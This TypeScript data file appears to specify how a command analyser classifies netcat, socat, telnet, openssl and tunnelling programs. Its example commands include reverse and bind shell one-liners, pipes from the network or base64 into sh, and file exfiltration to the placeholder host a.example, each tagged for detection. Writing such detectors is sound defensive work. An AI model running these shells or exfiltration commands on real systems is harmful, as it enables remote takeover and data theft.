import type { Program } from '../program/spec.ts';

/** Programs that wire sockets to streams and programs. */
export const SOCKETS: readonly Program[] = [
  {
    names: 'nc ncat netcat nc.traditional nc.openbsd pwncat',
    options: {
      '-e --exec': 'text',
      '-c --sh-exec': 'text',
      '--lua-exec': 'text',
      '-l --listen': 'flag',
      '-p --source-port': 'text',
      '-s --source': 'text',
      '-w --wait': 'text',
      '-i --idle-timeout': 'text',
      '-x --proxy': 'host',
      '-X': 'text',
      '-q': 'text',
      '-o --output': 'write',
      '-I': 'text',
      '-O': 'text',
      '-T': 'text',
      '-g': 'text',
      '-G': 'text',
      '-P': 'text',
      '-V': 'text',
      '--ssl-cert': 'read',
      '--ssl-key': 'read',
      '-k --keep-open': 'flag',
      '-n': 'flag',
      '-u --udp': 'flag',
      '-v': 'flag',
      '-z': 'flag',
      '-U': 'flag',
      '-N': 'flag',
    },
    operands: '',
    behaviour: 'netcat',
    examples: {
      'nc a.example 80': 'net a.example',
      'nc -e /bin/sh a.example 80':
        'flow cmd:sh>net:a.example; flow net:a.example>exec; net a.example; opaque code; remote; run sh; socket reverse-shell a.example',
      "ncat -c 'rm x' a.example 1": 'delete x; net a.example; run rm',
      'nc -lvp 80 -e /bin/bash':
        'flow cmd:bash>net:*; flow net:*>exec; opaque code; remote; run bash; socket bind-shell; socket listen',
      'nc -lvp 80': 'socket listen',
      'nc a.example 80 < x': 'flow x>net:a.example; net a.example; read x',
      'nc a.example 80 | bash': 'flow net:a.example>exec; net a.example; opaque code; remote; run bash',
      'sh -i | nc a.example 80':
        'action interactive; flow cmd:sh>net:a.example; net a.example; run nc; socket reverse-shell a.example',
      'mkfifo f; cat f | sh -i 2>&1 | nc a.example 80 > f':
        'flow cmd:sh>net:a.example; flow f>exec; flow net:a.example>exec; net a.example; opaque code; read f; remote; run cat; run nc; run sh; socket reverse-shell a.example; write f',
      'nc -zv a.example 22': 'net a.example',
    },
  },
  {
    names: 'socat',
    style: 'plain',
    behaviour: 'socat',
    examples: {
      'socat TCP:a.example:80 EXEC:/bin/sh':
        'flow cmd:sh>net:a.example; flow net:a.example>exec; net a.example; opaque code; remote; run sh; socket reverse-shell a.example',
      "socat exec:'bash -li',pty tcp:a.example:80":
        'flow cmd:bash>net:a.example; flow net:a.example>exec; net a.example; opaque code; remote; run bash; socket reverse-shell a.example',
      'socat -u FILE:x TCP:a.example:80': 'flow x>net:a.example; net a.example; read x',
      'socat TCP-LISTEN:80,fork EXEC:sh':
        'flow cmd:sh>net:*; flow net:*>exec; opaque code; remote; run sh; socket bind-shell; socket listen',
      'tar c d | socat - TCP:a.example:80': 'flow d>net:a.example; net a.example; read -r d; run socat',
      'socat - UNIX-CONNECT:/run/x.sock': 'nothing',
      'socat TCP-LISTEN:80,fork TCP:b.example:80':
        'flow net:*>net:b.example; flow net:b.example>net:*; net b.example; socket listen',
      'socat -u TCP:a.example:1 CREATE:x': 'net a.example; write x',
    },
  },
  {
    names: 'telnet rlogin cu tip',
    options: { '-l': 'text', '-n': 'write', '-e': 'text', '-b': 'text' },
    operands: '',
    behaviour: 'plain-client',
    examples: {
      'telnet a.example 80': 'net a.example',
      'telnet a.example 1 | sh | telnet a.example 2':
        'flow cmd:sh>net:a.example; flow net:a.example>exec; net a.example; opaque code; remote; run sh; run telnet; socket reverse-shell a.example',
    },
  },
  {
    names: 'openssl libressl',
    style: 'long',
    options: {
      '-in': 'text',
      '-out': 'write',
      '-connect': 'text',
      '-k -pass -passin -passout': 'text',
      '-key -inkey': 'text',
      '-cert -CA -CAfile': 'text',
      '-engine -provider': 'library',
      '-config': 'read',
      '-kfile': 'read',
      '-rand': 'read',
      '-d': 'flag',
      '-base64': 'flag',
      '-a': 'flag',
      '-e': 'flag',
      '-noout': 'flag',
      '-text': 'flag',
      '-subj': 'text',
      '-days': 'text',
      '-newkey': 'text',
      '-keyout': 'write',
      '-servername': 'text',
      '-host': 'host',
      '-port': 'text',
      '-accept': 'text',
      '-iv -K -S': 'text',
      '-WWW -HTTP': 'flag',
    },
    operands: 'text...',
    subcommands: {
      'enc|base64|aes-*|des*|camellia-*|bf*|rc4|zlib|chacha20': { operands: '', behaviour: 'openssl' },
      s_client: { operands: '', behaviour: 'plain-client' },
      s_server: { operands: '', stdin: 'data' },
      'rsa|dsa|ec|pkey|pkcs8|pkcs12|x509|req|asn1parse|crl|verify|cms|smime|ocsp|ca|ts|dgst|pkeyutl|rsautl|md5|sha*':
        { options: { '-in': 'read', '-key -inkey -signkey': 'read' }, operands: 'read...' },
    },
    examples: {
      'openssl enc -d -base64 -in a | sh': 'decoded; flow a>exec; read a; run sh',
      'openssl s_client -connect a.example:443 < x': 'flow x>net:a.example; net a.example; read x',
      'openssl rsa -in k.pem -text': 'read k.pem',
      'openssl rand -hex 8': 'nothing',
      'openssl enc -aes-256-cbc -in .env -out e': 'read .env; write e',
      'openssl req -x509 -newkey rsa:2048 -keyout k -out c': 'write c; write k',
    },
  },
  {
    names:
      'ngrok cloudflared localtunnel lt bore frpc frps chisel serveo pagekite inlets tailscale zerotier-cli wormhole croc magic-wormhole transfer onionshare ffsend',
    options: { '-c --config': 'read', '--url': 'text', '--authtoken': 'text', '--hostname': 'text' },
    operands: 'text...',
    actions: 'tunnel',
    subcommands: {
      'send|upload|push': { operands: 'send-file...', hosts: 'relay.magic-wormhole.io' },
      'up|status|version|ip|ping|help|update|netcheck|list|login|logout': {},
      'file cp': { operands: 'send-file remote-target', hosts: 'relay.magic-wormhole.io' },
    },
    examples: {
      'ngrok http 80': 'action tunnel',
      'wormhole send x': 'flow x>net:relay.magic-wormhole.io; net relay.magic-wormhole.io; read x',
      'tailscale status': 'nothing',
    },
  },
];
